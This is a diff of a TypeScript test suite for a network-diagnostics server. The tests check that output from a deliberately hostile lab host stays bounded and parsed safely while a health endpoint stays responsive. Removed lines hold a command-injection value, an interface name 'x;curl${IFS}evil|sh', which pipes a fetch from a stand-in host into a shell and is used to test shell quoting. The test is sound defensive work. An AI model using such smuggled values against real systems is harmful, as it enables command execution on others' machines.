@@ -12,49 +12,87 @@ import { labKey, readHostileHosts, readLab, setHostileMode, startWithNoHosts, ty
 
 // "Nothing a host prints can stall, leak or mislead." A real host (lab/README.md "The hostile
 // host": real sshd, real login shell, netdiag's real framed script) whose commands print
-// multi-MB lines, binary garbage, 100k-deep JSON, __proto__ keys, counters above 2^64, 3,000
-// interfaces and 50,000 neighbors, a shell-metacharacter interface name, and output that never
-// ends. Each mode is one collection; each must end as what a user can read (ok, partial or
-// failed, naming the command) within the per-command timeout, while a normal host collected at
-// the same time stays "ok" and the server keeps answering /api/health.
+// multi-MB lines, binary garbage, 100k-deep JSON, __proto__ keys, counters above 2^64 and output
+// that never ends, and whose kernel really holds an interface named with shell syntax and, in
+// one mode, 3,000 interfaces and 50,000 neighbor entries. Each mode is one collection; each must
+// end as what a user can read (ok, partial or failed, naming the command) within the
+// per-command timeout, while a normal host collected at the same time stays "ok" and the server
+// keeps answering /api/health (issue 15: p95 under 100 ms).
 
-const METACHAR = "x;curl${IFS}evil|sh";
 const COMMAND_TIMEOUT_MS = Number(process.env.NETDIAG_SSH_COMMAND_TIMEOUT_MS ?? 8000);
+const HEALTH_INTERVAL_MS = 20;
+const HEALTH_P95_LIMIT_MS = 100;
 
 let hostile: HostileHost;
 let normal: LabHost;
 let hostileId = -1;
 let normalId = -1;
+type Sample = { dueAt: number; ms: number };
 const healthMs: Record<string, number[]> = {};
 
 const p95 = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.max(0, Math.ceil(xs.length * 0.95) - 1)] ?? 0;
 
-/** The hostile host in MODE, the normal host at the same time, /api/health asked all along. */
-async function collectIn(mode: string): Promise<{ run: RunSummary; normalRun: RunSummary; elapsedMs: number }> {
-  setHostileMode(hostile, mode);
-  const samples: number[] = (healthMs[mode] = []);
-  let done = false;
-  // A client asking every 20 ms: each sample runs from when its request was due to its answer,
-  // so time the event loop spent blocked (a timer firing late) counts, not only the handler.
-  const poll = (async () => {
-    while (!done) {
-      const due = performance.now() + 20;
-      await new Promise((r) => setTimeout(r, 20));
-      const res = await health(new Request("http://localhost/api/health"), undefined as never);
-      samples.push(performance.now() - due);
-      expect(res.status).toBe(200);
+/**
+ * /api/health asked every HEALTH_INTERVAL_MS on a fixed schedule, whatever the answers do (an
+ * open loop). Each sample runs from when its request was due to its answer, so an event loop
+ * blocked for 1 s delays the 50 requests due meanwhile, as it would delay 50 users; a client
+ * that waits for each answer before asking again would count that second once.
+ */
+function sampleHealth(samples: Sample[], statuses: number[]): () => Promise<void> {
+  // Requests due before stop() are all sent, also those a blocked loop could not send in time.
+  let stopAt = Infinity;
+  const answers: Promise<void>[] = [];
+  const started = performance.now();
+  const loop = (async () => {
+    for (let k = 1; ; k++) {
+      const due = started + k * HEALTH_INTERVAL_MS;
+      await new Promise((r) => setTimeout(r, Math.max(0, due - performance.now())));
+      if (due > stopAt) break;
+      answers.push(
+        health(new Request("http://localhost/api/health"), undefined as never).then(async (res) => {
+          await res.text();
+          samples.push({ dueAt: due, ms: performance.now() - due });
+          statuses.push(res.status);
+        }),
+      );
     }
   })();
+  return async () => {
+    stopAt = performance.now();
+    await loop;
+    await Promise.all(answers);
+  };
+}
+
+/**
+ * The hostile host in MODE and the normal host collected at the same time, /api/health asked
+ * all along: until both runs are stored and the findings they trigger are evaluated, since that
+ * work is the server's too.
+ */
+async function collectIn(mode: string): Promise<{ run: RunSummary; normalRun: RunSummary; elapsedMs: number }> {
+  setHostileMode(hostile, mode);
+  const samples: Sample[] = [];
+  const statuses: number[] = [];
+  const stop = sampleHealth(samples, statuses);
   const started = performance.now();
   const [run, normalRun] = await Promise.all([collectHost(hostileId), collectHost(normalId)]);
-  const elapsedMs = performance.now() - started;
-  done = true;
-  await poll;
+  const stored = performance.now();
   await findingsSettled();
+  const settled = performance.now();
+  await stop();
+  const elapsedMs = stored - started;
+  const all = samples.map((x) => x.ms);
+  // Requests due while the runs were collected and stored, and while their findings were evaluated.
+  const collecting = samples.filter((x) => x.dueAt < stored).map((x) => x.ms);
+  const evaluating = samples.filter((x) => x.dueAt >= stored).map((x) => x.ms);
+  const figures = (xs: number[]) => (xs.length ? `p95 ${p95(xs).toFixed(1)} ms, max ${Math.max(...xs).toFixed(1)} ms, ${xs.length} calls` : "no calls");
   console.log(
-    `hostile ${mode}: ${run.status} in ${Math.round(elapsedMs)} ms; /api/health p95 ${p95(samples).toFixed(1)} ms ` +
-      `(max ${Math.max(...samples).toFixed(1)} ms, ${samples.length} calls); error: ${(run.error ?? "").slice(0, 300)}`,
+    `hostile ${mode}: ${run.status}, stored after ${Math.round(elapsedMs)} ms, findings after ${Math.round(settled - started)} ms; ` +
+      `/api/health ${figures(all)} (collecting: ${figures(collecting)}; findings: ${figures(evaluating)}); ` +
+      `error: ${(run.error ?? "").slice(0, 300)}`,
   );
+  healthMs[mode] = all;
+  expect(statuses.every((s) => s === 200)).toBe(true);
   expect(normalRun.status).toBe("ok");
   return { run, normalRun, elapsedMs };
 }
@@ -92,15 +130,18 @@ beforeAll(async () => {
 });
 
 afterAll(() => {
+  // `many` costs the kernel 20 MB while it lasts: leave the host as `up` made it.
   if (hostile) setHostileMode(hostile, "off");
-  const all = Object.values(healthMs).flat();
-  if (all.length) console.log(`/api/health during hostile collections: p95 ${p95(all).toFixed(1)} ms over ${all.length} calls`);
+  const all = Object.entries(healthMs).flatMap(([mode, xs]) => (mode === "off" ? [] : xs));
+  if (all.length) console.log(`/api/health during hostile collections: p95 ${p95(all).toFixed(1)} ms, max ${Math.max(...all).toFixed(1)} ms over ${all.length} calls`);
 });
 
 describe("a hostile host", () => {
   test("off: the host itself is collected ok (and detected once)", async () => {
     const { run } = await collectIn("off");
     expect([run.status, run.error]).toEqual(["ok", null]);
+    const snap = await getLatestSnapshot(hostileId);
+    expect(snap?.interfaces.map((i) => i.name)).toContain(hostile.metacharInterface);
   });
 
   describe("multi-MB outputs leave the database small", () => {
@@ -118,7 +159,9 @@ describe("a hostile host", () => {
       expect(snap?.interfaces.map((i) => i.name).sort()).toEqual(expect.arrayContaining(["eth0", "lo"]));
       const stored = await lastRun();
       // What a run keeps of a command is bounded: no 3 MiB line in the database.
-      expect(JSON.stringify(stored.commands).length).toBeLessThan(6 * 64 * 1024);
+      const commandsChars = JSON.stringify(stored.commands).length;
+      console.log(`long-line: Run.commands holds ${commandsChars} characters`);
+      expect(commandsChars).toBeLessThan(6 * 64 * 1024);
       expect(JSON.stringify(stored.commands)).toMatch(/truncated/);
     });
 
@@ -181,49 +224,70 @@ describe("a hostile host", () => {
     expect(snap?.neighbors.map((n) => n.ip)).not.toEqual(expect.arrayContaining(["6.6.6.7"]));
   });
 
-  test("counters: values above 2^64 (and above what the database holds) are skipped, never stored wrong", async () => {
+  test("counters: values above 2^64 (and above what the database holds) are left out and named, never stored wrong", async () => {
     const { run } = await collectIn("counters");
     expect(run.status).toBe("partial");
     const db = await getDb();
     const rows = await db.interface.findMany({ where: { runId: run.runId } });
-    const eth0 = rows.find((i) => i.name === "eth0");
-    const ok0 = rows.find((i) => i.name === "ok0");
-    expect(eth0).toMatchObject({ rxBytes: null, txBytes: null, rxPackets: null, txPackets: null, txErrors: null, mtu: null, speedMbps: null });
-    expect(eth0?.txDropped).toBe(7n);
+    // eth0 (2^64, 2^128, 1e30, an MTU of 2^32) is not a link any kernel reports: the parser
+    // skips it and the run says so; it is never stored with a wrapped or rounded value.
+    expect(run.error).toMatch(/ip -j -s -d link show: 1 line\(s\) not understood/);
+    expect(rows.find((i) => i.name === "eth0")).toBeUndefined();
     // Exact 64-bit values in range stay exact, to the last digit.
+    const ok0 = rows.find((i) => i.name === "ok0");
     expect(ok0?.rxBytes).toBe(9223372036854775807n);
     expect(ok0?.rxPackets).toBe(12345678901234567n);
-    // No stored counter anywhere is outside what a 64-bit kernel counter can be.
+    // 2^64-1 is a u64 counter, but no signed 64-bit column holds it: left out, and named.
+    const big0 = rows.find((i) => i.name === "big0");
+    expect(big0).toMatchObject({ rxBytes: null, rxPackets: 5n, txBytes: 6n });
+    expect(run.error).toMatch(/big0: rxBytes 18446744073709551615 \(above 2\^63-1/);
+    // The 20-digit link speed is no 32-bit integer either.
+    expect(rows.every((r) => r.speedMbps === null || (r.speedMbps >= 0 && r.speedMbps < 2 ** 31))).toBe(true);
+    expect(run.error).toMatch(/speed \(Mb\/s\) \d{20}/);
     for (const r of rows) {
       for (const v of [r.rxBytes, r.txBytes, r.rxPackets, r.txPackets, r.rxErrors, r.txErrors, r.rxDropped, r.txDropped]) {
-        if (v !== null) expect(v >= 0n && v < 2n ** 64n).toBe(true);
+        if (v !== null) expect(v >= 0n && v < 2n ** 63n).toBe(true);
       }
     }
-    expect(run.error).toMatch(/18446744073709551616/);
-  });
-
-  test("many: 3,000 interfaces and 50,000 neighbors are stored, ok, in reasonable time", async () => {
-    const { run, elapsedMs } = await collectIn("many");
-    expect([run.status, run.error]).toEqual(["ok", null]);
-    expect(elapsedMs).toBeLessThan(60_000);
-    const db = await getDb();
-    expect(await db.interface.count({ where: { runId: run.runId } })).toBe(3000);
-    expect(await db.neighbor.count({ where: { runId: run.runId } })).toBe(50_000);
-    expect(await db.interface.count({ where: { runId: run.runId, name: METACHAR } })).toBe(1);
   });
 
   test("metachar: the name is stored verbatim, and a fix quotes it as one shell word", async () => {
+    const name = hostile.metacharInterface;
     const up = await collectIn("metachar");
     expect(up.run.status).toBe("ok");
     const down = await collectIn("metachar-down");
     expect(down.run.status).toBe("ok");
     const snap = await getLatestSnapshot(hostileId);
-    expect(snap?.interfaces.find((i) => i.name === METACHAR)).toMatchObject({ state: "down", addresses: ["192.0.2.1/24"] });
+    expect(snap?.interfaces.find((i) => i.name === name)).toMatchObject({ state: "down", addresses: expect.arrayContaining(["192.0.2.1/24"]) });
     const findings = await listFindings({ hostId: hostileId, kind: "link-down" });
-    const finding = findings.find((f) => f.subject.label.includes(METACHAR) || f.title.includes(METACHAR));
+    const finding = findings.find((f) => f.subject.label.includes(name) || f.title.includes(name));
     expect(finding, JSON.stringify(findings.map((f) => f.title))).toBeDefined();
-    expect(finding?.fix).toContain(`ip link set dev 'x;curl\${IFS}evil|sh' up`);
-    expect(finding?.fix).not.toMatch(/dev x;curl/);
+    expect(finding?.fix).toContain(`ip link set dev '${name}' up`);
+    expect(finding?.fix).not.toContain(`dev ${name}`);
+  });
+
+  test("many: 3,000 real interfaces and 50,000 real neighbor entries are stored; the run ends within the timeouts", async () => {
+    const { run, elapsedMs } = await collectIn("many");
+    const stored = await lastRun();
+    const slow = stored.commands.filter((c) => !c.ok).map((c) => `${c.command}: ${c.error ?? ""}`);
+    console.log(`many: Run.commands holds ${JSON.stringify(stored.commands).length} characters; failed commands: ${slow.join(" | ") || "none"}`);
+    // The link-speed script runs ethtool twice per interface (6,000 processes on the host): it
+    // may hit the per-command timeout, and then only it fails; everything else is stored.
+    if (run.status === "partial") {
+      expect(stored.commands.filter((c) => !c.ok).map((c) => c.command)).toEqual([expect.stringMatching(/^sh -c .*ethtool/)]);
+      expect(run.error).toMatch(/timed out|did not answer|within/i);
+    } else {
+      expect([run.status, run.error]).toEqual(["ok", null]);
+    }
+    // Every command ends within its own timeout (the clock of each starts when the one before
+    // it ended), so the batch within one timeout per command. A timer fires late while the
+    // event loop parses another command's output, hence the margin per command.
+    for (const c of stored.commands) expect(c.durationMs).toBeLessThan(2 * COMMAND_TIMEOUT_MS);
+    expect(elapsedMs).toBeLessThan(stored.commands.length * COMMAND_TIMEOUT_MS);
+    const db = await getDb();
+    expect(await db.interface.count({ where: { runId: run.runId } })).toBe(hostile.manyInterfaces);
+    expect(await db.neighbor.count({ where: { runId: run.runId, ip: { startsWith: "198.1" } } })).toBe(hostile.manyNeighbors);
+    expect(await db.interface.count({ where: { runId: run.runId, name: hostile.metacharInterface } })).toBe(1);
   });
 
   test("off again: the host is collected ok, nothing left over", async () => {
@@ -231,10 +295,10 @@ describe("a hostile host", () => {
     expect([run.status, run.error]).toEqual(["ok", null]);
   });
 
-  test("/api/health stayed responsive during the hostile collections (p95 < 100 ms)", () => {
+  test(`/api/health stayed responsive during the hostile collections (p95 < ${HEALTH_P95_LIMIT_MS} ms)`, () => {
     // "off" is the host behaving (and the first collection of the file warms up the modules).
     const all = Object.entries(healthMs).flatMap(([mode, xs]) => (mode === "off" ? [] : xs));
-    expect(all.length).toBeGreaterThan(10);
-    expect(p95(all)).toBeLessThan(100);
+    expect(all.length).toBeGreaterThan(100);
+    expect(p95(all)).toBeLessThan(HEALTH_P95_LIMIT_MS);
   });
 });
